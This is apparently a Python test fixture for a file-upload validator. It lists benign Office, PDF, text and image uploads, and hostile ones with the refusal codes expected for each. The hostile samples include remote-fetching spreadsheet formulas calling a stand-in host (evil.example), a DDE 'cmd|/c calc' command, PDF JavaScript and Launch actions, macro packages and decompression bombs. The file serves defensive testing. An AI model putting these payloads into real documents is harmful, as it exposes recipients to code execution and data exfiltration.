"""Uploads by what they are: good ones with their names, bad ones with the code of the refusal and their names."""

import struct
import zipfile
import zlib

from tests.bad_archives import BAD_ARCHIVES
from tests.bad_packages import BAD_PACKAGES, with_chart
from tests.word_files import (
    LETTER,
    MIB,
    Member,
    complex_field,
    deflated,
    deflated_blocks,
    deflated_zeros,
    jpeg,
    ole,
    pdf,
    pdf_stream,
    plain_docx,
    plain_xlsx,
    png,
    png_chunk,
    program,
    raw_word,
    slides,
    template,
    word,
    workbook,
)

MAX_BYTES = 10 * MIB

GOOD_FILES = {
    "a letter with merge fields": ("Brief an Kunden.docx", LETTER.read_bytes),
    "a document": ("letter.docx", plain_docx),
    "a document packed without compression": ("letter.docx", lambda: word().packed(zipfile.ZIP_STORED)),
    "a document with a comment behind its directory": (
        "letter.docx",
        lambda: raw_word(comment=b"made today"),
    ),
    "a document whose sizes follow its parts": (
        "letter.docx",
        lambda: raw_word(follows("word/media/a.png"), follows("word/media/b.png", b"PK\7\x08")),
    ),
    "a document with padding and dates": (
        "letter.docx",
        lambda: raw_word(Member("word/media/a.png", b"x", extra=b"\x20\xa2\4\0pads" + b"UT\1\0t")),
    ),
    "a document with folders": ("letter.docx", lambda: raw_word(Member("word/media/"))),
    "a document in UTF-16": (
        "letter.docx",
        lambda: (
            word()
            .put("customXml/a.xml", '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"))
            .packed()
        ),
    ),
    "a document with a link": (
        "letter.docx",
        lambda: word().relate("hyperlink", "https://example.com/", external=True).packed(),
    ),
    "a document with links to its own places": (
        "letter.docx",
        lambda: word().relate("hyperlink", "#top").relate("hyperlink", "/word/document.xml#end").packed(),
    ),
    "a document from a library": (
        "letter.docx",
        lambda: word().put("customXml/a.xml", '<?mso-contentType?><a xml:space="none"/>').packed(),
    ),
    "a document with a drawing from a mail": (
        "letter.docx",
        lambda: (
            word()
            .write(
                '<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="cid:1@mail"/></w:pict></w:r>'
            )
            .packed()
        ),
    ),
    "a document with a chart packed without compression": (
        "letter.docx",
        lambda: with_chart(word()).packed(zipfile.ZIP_STORED),
    ),
    "a document with a chart and its figures": ("letter.docx", lambda: with_chart(word()).packed()),
    "a document with a picture that is missing": (
        "a.docx",
        lambda: word().relate("image", "../NULL").packed(),
    ),
    "a template": ("letter.dotx", lambda: template().packed()),
    "a workbook": ("prices.xlsx", plain_xlsx),
    "a workbook with plain formulas": (
        "prices.xlsx",
        lambda: with_formula("SUM(Table1[Price],IF(A1&lt;2,Sheet1!B2,'My sheet'!C3))&amp;&quot;a|b&quot;"),
    ),
    "a document with a link to a mail and to a file beside it": (
        "letter.docx",
        lambda: (
            word()
            .relate("hyperlink", "mailto:info@example.com?subject=a:b", external=True)
            .relate("hyperlink", "prices.xlsx", external=True)
            .write(complex_field(' HYPERLINK "https://example.com/a?b=c:d" '))
            .write(complex_field(' HYPERLINK \\l "top" '))
            .packed()
        ),
    ),
    "a large workbook": (
        "prices.xlsx",
        lambda: workbook().put("xl/worksheets/a.xml", f"<a>{'<row><c/></row>' * 9000}</a>").packed(),
    ),
    "a presentation with links and buttons": (
        "firm.pptx",
        lambda: (
            slides()
            .relate(
                "hyperlink", "https://example.com", source="ppt/slides/slide1.xml", external=True, id="rIdL"
            )
            .edit(
                "ppt/slides/slide1.xml",
                "<p:cSld/>",
                '<p:cSld><a:hlinkClick xmlns:a="urn:a" r:id="rIdL"/><a action="ppaction://hlinksldjump"/></p:cSld>',
            )
            .packed()
        ),
    ),
    "a presentation": ("firm.pptx", lambda: slides().packed()),
    "a workbook with remarks in old drawings": (
        "prices.xlsx",
        lambda: workbook().put("xl/drawings/vmlDrawing1.vml", "<xml><p>Hello<br>reader</p></xml>").packed(),
    ),
    "a PDF with a picture that is packed": (
        "plan.pdf",
        lambda: pdf(pdf_stream(bytes(MIB) + b"/JavaScript ", b"/Subtype /Image /Filter /FlateDecode")),
    ),
    "a PDF": ("terms.pdf", lambda: pdf(pdf_stream(b"BT (Hello) Tj ET"), b"<< /First 5 0 R >>")),
    "a text in UTF-8": ("note.txt", "Привет, señor\r\n\tÉmile".encode),
    "a text with a mark of its order": ("note.txt", lambda: "Hello".encode("utf-8-sig")),
    "a text from Russian Windows": ("note.txt", lambda: "Привет".encode("windows-1251")),
    "a text from western Windows": ("note.txt", lambda: "Señor – \u02dc".encode("windows-1252")),
    "a picture": ("logo.png", png),
    "a photograph with filling between its parts": ("me.jpg", lambda: jpeg()[:2] + b"\xff" * 9 + jpeg()[2:]),
    "a photograph": ("me.jpg", jpeg),
    "a photograph by its long ending": ("ME.JPEG", jpeg),
    "a photograph with a film behind it": ("me.jpg", lambda: jpeg() + b"ftypmp42 moving"),
}


def follows(name, signature=b""):
    """A member as programs write it that do not know its size beforehand."""
    data = b"a picture"
    sizes = struct.pack("<3L", zlib.crc32(data), len(deflated(data)), len(data))
    return Member(name, data, flags=0x8, descriptor=signature + sizes)


def with_formula(formula, more=""):
    sheet = workbook().parts["xl/worksheets/sheet1.xml"].decode()
    row = f'<row r="9"><c r="A9"><f>{formula}</f><v>1</v></c></row>{more}'
    changed = sheet.replace("<sheetData/>", "<sheetData></sheetData>").replace(
        "</sheetData>", f"{row}</sheetData>"
    )
    return workbook().put("xl/worksheets/sheet1.xml", changed).packed()


BAD_FILES = {
    "nothing": ("empty", "letter.docx", lambda: b""),
    "a large file": ("too_large", "letter.txt", lambda: b"x" * (MAX_BYTES + 1)),
    "a file without ending": ("unknown_ending", "letter", plain_docx),
    "a script": ("unknown_ending", "letter.js", lambda: b"alert(1)"),
    "a file with the ending of macros": ("macros", "letter.docm", plain_docx),
    "a workbook with macros": (
        "macros",
        "prices.xlsx",
        lambda: (
            workbook().put("xl/vbaProject.bin", ole("VBA"), "application/vnd.ms-office.vbaProject").packed()
        ),
    ),
    "a presentation with macros": (
        "macros",
        "firm.pptx",
        lambda: slides().relate("vbaProject", "vbaProject.bin").packed(),
    ),
    "a presentation with an object": (
        "embedded",
        "firm.pptx",
        lambda: slides().edit("ppt/slides/slide1.xml", "<p:cSld/>", "<p:cSld/><p:oleObj/>").packed(),
    ),
    "a presentation that starts a program": (
        "macros",
        "firm.pptx",
        lambda: (
            slides()
            .edit("ppt/slides/slide1.xml", "<p:cSld/>", '<p:cSld><a action="ppaction://program"/></p:cSld>')
            .packed()
        ),
    ),
    "a workbook that asks a database": (
        "external",
        "prices.xlsx",
        lambda: workbook().relate("connections", "connections.xml").packed(),
    ),
    "a workbook that starts a program": (
        "external",
        "prices.xlsx",
        lambda: workbook().relate("externalLink", "externalLinks/externalLink1.xml").packed(),
    ),
    **{
        f"a workbook that fetches with {formula}": (
            "fetching_formula",
            "prices.xlsx",
            lambda formula=formula: with_formula(formula),
        )
        for formula in (
            "_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;)",
            "_xlfn.web&#x73;ervice (A1)",
            "_xlfn.IMAGE(A1)",
            "1+RTD(&quot;evil&quot;,,A1)",
            "'\\\\evil\\[prices.xlsx]Sheet1'!A1",
            "cmd|'/c calc'!A0",
        )
    },
    "a workbook that fetches with a formula beyond the first megabyte": (
        "fetching_formula",
        "prices.xlsx",
        lambda: with_formula("1", "<row/>" * 200_000 + "<f>_xlfn.WEBSERVICE(A1)</f>"),
    ),
    "a workbook with a remark in a formula": (
        "packing",
        "prices.xlsx",
        lambda: with_formula("_xlfn.WEB<!-- -->SERVICE(A1)"),
    ),
    "a workbook with a document type": (
        "doctype",
        "prices.xlsx",
        lambda: workbook().put("xl/worksheets/sheet2.xml", "<!DOCTYPE a><a/>").packed(),
    ),
    "a program": ("program", "letter.docx", program),
    "a program with an archive behind it": ("program", "letter.docx", lambda: program() + plain_docx()),
    "bytes before the archive": ("not_what_it_says", "letter.docx", lambda: b"\n" + plain_docx()),
    "a program behind the archive": ("packing", "letter.docx", lambda: plain_docx() + program()),
    "an old document": ("old_office", "letter.doc", lambda: ole("WordDocument")),
    "an old document under a new name": ("old_office", "letter.docx", lambda: ole("WordDocument")),
    "an old workbook": ("old_office", "prices.xls", lambda: ole("Workbook")),
    "an encrypted document": (
        "encrypted",
        "letter.docx",
        lambda: ole("EncryptionInfo", "EncryptedPackage"),
    ),
    "half a document": ("damaged", "letter.docx", lambda: plain_docx()[:20_000]),
    "a document without its last byte": ("damaged", "letter.docx", lambda: plain_docx()[:-1]),
    "a web page": ("web_page", "letter.docx", lambda: b"\n<!DOCTYPE html><html></html>"),
    "a web page with a remark first": ("web_page", "letter.docx", lambda: b"<!-- hi --> <HTML></HTML>"),
    "a text under the name of a document": ("not_what_it_says", "letter.docx", lambda: b"Dear reader"),
    "a workbook under the name of a document": ("not_what_it_says", "letter.docx", plain_xlsx),
    "a template under the name of a document": ("not_what_it_says", "a.docx", lambda: template().packed()),
    "a document under the name of a presentation": ("not_what_it_says", "a.pptx", plain_docx),
    "a PDF that is none": ("not_what_it_says", "terms.pdf", lambda: b"Hello"),
    "half a PDF": ("unreadable", "terms.pdf", lambda: pdf(pdf_stream(b"x" * 9000))[:100]),
    "a PDF with a script": ("pdf_active", "a.pdf", lambda: pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    "a PDF with a script spelled in numbers": (
        "pdf_active",
        "a.pdf",
        lambda: pdf(b"<< /S /J#61vaScrip#74 /JS (app.alert(1)) >>"),
    ),
    "a PDF that starts a program": ("pdf_active", "a.pdf", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    "a PDF with a file inside": ("pdf_active", "a.pdf", lambda: pdf(b"<< /Type /EmbeddedFile >>")),
    "a PDF with a script in a packed stream": (
        "pdf_active",
        "a.pdf",
        lambda: pdf(
            pdf_stream(b"9 0 << /S /JavaScript >>", b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
        ),
    ),
    "a PDF with a script in a stream that says it is a picture": (
        "pdf_active",
        "a.pdf",
        lambda: pdf(
            pdf_stream(b"9 0 << /S /JavaScript >>", b"/Subtype /Image /N 1 /F#69rst 4 /Filter /FlateDecode")
        ),
    ),
    "a PDF with objects packed twice": (
        "pdf_hidden",
        "a.pdf",
        lambda: pdf(pdf_stream(b"x", b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]")),
    ),
    "a PDF with objects that do not unpack": (
        "pdf_hidden",
        "a.pdf",
        lambda: pdf(pdf_stream(b"x", b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", packed=False)),
    ),
    "a protected PDF": ("pdf_protected", "a.pdf", lambda: pdf(tail=b"/Encrypt 9 0 R ")),
    "a PDF with a bomb": (
        "too_complicated",
        "a.pdf",
        lambda: pdf(b"<<>>\nstream\n\x78\xda" + deflated_zeros(200) + b"\nendstream"),
    ),
    "a PDF with a bomb in a picture that begins like objects": (
        "too_complicated",
        "a.pdf",
        lambda: pdf(
            b"<< /Subtype /Image >>\nstream\n\x78\xda"
            + deflated_blocks(b"1 0 " * (MIB // 4), 200)
            + b"\nendstream"
        ),
    ),
    "a PDF of a hundred thousand streams": (
        "too_complicated",
        "a.pdf",
        lambda: pdf(b"stream\nendstream\n" * 100_000),
    ),
    "a PDF of streams without ends": (
        "too_complicated",
        "a.pdf",
        lambda: pdf((b"stream\n" + bytes(300)) * 30_000),
    ),
    "a text with zeros": ("not_text", "note.txt", lambda: b"a\0b"),
    "a long text with a bell behind a smile": (
        "not_text",
        "note.txt",
        lambda: b"x" * 9_000_000 + "😀\a".encode(),
    ),
    "a text with a bell": ("not_text", "note.txt", lambda: b"a\x07b"),
    "a text in no alphabet of ours": ("not_text", "note.txt", lambda: b"\x98\x81"),
    "a web page under the name of a text": (
        "not_what_it_says",
        "note.txt",
        lambda: b" <!doctype html><script>",
    ),
    "a PNG that is none": ("not_what_it_says", "logo.png", jpeg),
    "half a PNG": ("unreadable", "logo.png", lambda: png()[:-6]),
    "a PNG with a wrong sum": ("unreadable", "logo.png", lambda: png().replace(b"IDAT", b"IDAX")),
    "a PNG with an archive behind it": ("unreadable", "logo.png", lambda: png() + plain_docx()),
    "a PNG of a hundred thousand chunks": (
        "unreadable",
        "logo.png",
        lambda: png()[:-12] + png_chunk(b"tEXt", b"") * 100_000,
    ),
    "a PNG without a size": ("unreadable", "logo.png", lambda: png(width=0)),
    "a PNG of a trillion points": ("unreadable", "logo.png", lambda: png(width=1_000_000, height=1_000_000)),
    "a JPEG that is none": ("not_what_it_says", "me.jpg", png),
    "a JPEG with filling": ("unreadable", "me.jpg", lambda: b"\xff\xd8" + b"\xff" * 9 + b"\xd9"),
    "half a JPEG": ("unreadable", "me.jpg", lambda: jpeg()[:4000]),
    "a JPEG cut in its header": ("unreadable", "me.jpeg", lambda: jpeg()[:100]),
    "a JPEG without a frame": ("unreadable", "me.jpg", lambda: b"\xff\xd8\xff\xda\0\2\xff\xd9"),
    "a JPEG of nothing but filling": ("unreadable", "me.jpg", lambda: b"\xff\xd8" + b"\xff" * 9_000_000),
    "a JPEG of a million remarks": (
        "unreadable",
        "me.jpg",
        lambda: b"\xff\xd8" + b"\xff\xfe\0\2" * 1_000_000,
    ),
    "a JPEG of marks without lengths": ("unreadable", "me.jpg", lambda: b"\xff\xd8" + b"\xff\xd0" * 9),
    "a JPEG with a short frame": (
        "unreadable",
        "me.jpg",
        lambda: b"\xff\xd8\xff\xc0\0\4\0\0\xff\xda\0\2\xff\xd9",
    ),
    **BAD_ARCHIVES,
    **{
        name: (code, "letter.docx", lambda make=make: make().packed())
        for name, (code, make) in BAD_PACKAGES.items()
    },
}
